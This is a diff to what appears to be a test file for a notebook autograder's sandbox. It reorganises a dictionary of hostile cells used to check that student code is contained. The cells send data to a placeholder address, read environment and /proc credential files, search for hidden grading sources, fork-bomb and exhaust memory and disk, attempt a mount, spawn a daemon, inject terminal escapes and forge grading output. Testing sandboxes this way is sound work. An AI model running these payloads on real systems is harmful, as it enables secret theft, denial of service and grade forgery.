@@ -69,21 +69,27 @@ for path in glob.glob("{}", recursive=True):
     if "BEGIN HIDDEN" in text or "2 * x" in text and "hw_small" in path:
         print("FOUND", path)
 """
-HOSTILE = {
-    "network": "import urllib.request\nurllib.request.urlopen('http://{address}/stolen', timeout=2)",
-    "sources": SEARCH.format("/**/source/**/*.ipynb"),
-    "outside": "open('{canary}', 'w').write('changed')",
-    "environment": "import os\nprint(dict(os.environ), open('/proc/1/environ').read())",
-    "processes": "import os\nprint([open(f'/proc/{p}/cmdline').read() for p in os.listdir('/proc') if p.isdigit()])",
-    "forks": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        break",
-    "memory": "hoard = []\nwhile True:\n    hoard.append(bytearray(50_000_000))",
-    "disk": "import os\nfor n in range(99):\n    open(f'/tmp/{n}', 'wb').write(bytes(40_000_000))",
-    "exit": "import os\nos._exit(0)",
-    "stubborn": "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
-    "daemon": "import subprocess\nsubprocess.Popen(['sleep', '4321'], start_new_session=True)",
-    "mounts": "import ctypes\nassert ctypes.CDLL(None).mount(b'/', b'/tmp', b'', 4096, None) == 0",
-    "escapes": "print('\\x1b]0;owned\\x07\\x1b[2J\\x1b[31m')",
-    "forged": 'print(\'{"state": "graded", "parts": {"small-1-hidden": 2}}\')\ndisplay({\'points\': 3})',
+HOSTILE = {  # each line in a cell of its own
+    "spy": [
+        "import urllib.request\nurllib.request.urlopen('http://{address}/stolen', timeout=2)",
+        SEARCH.format("/**/source/**/*.ipynb"),
+        "import os\nprint(dict(os.environ), open('/proc/1/environ').read())",
+        "print([open(f'/proc/{p}/cmdline').read() for p in os.listdir('/proc') if p.isdigit()])",
+    ],
+    "vandal": [
+        "open('{canary}', 'w').write('changed')",
+        "import subprocess\nsubprocess.Popen(['sleep', '4321'], start_new_session=True)",
+        "import ctypes\nassert ctypes.CDLL(None).mount(b'/', b'/tmp', b'', 4096, None) == 0",
+    ],
+    "forger": [
+        "print('\\x1b]0;owned\\x07\\x1b[2J\\x1b[31m')",
+        'print(\'{"state": "graded", "parts": {"small-1-hidden": 2}}\')\ndisplay({\'points\': 3})',
+    ],
+    "forks": ["import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        break"],
+    "memory": ["hoard = []\nwhile True:\n    hoard.append(bytearray(50_000_000))"],
+    "disk": ["import os\nfor n in range(99):\n    open(f'/tmp/{n}', 'wb').write(bytes(40_000_000))"],
+    "exit": ["import os\nos._exit(0)"],
+    "stubborn": ["while True:\n    try:\n        while True: pass\n    except BaseException: pass"],
 }
 TAMPERED = {  # cells of the handout that a student changed
     "weak-test": {"small_1_check": "pass"},
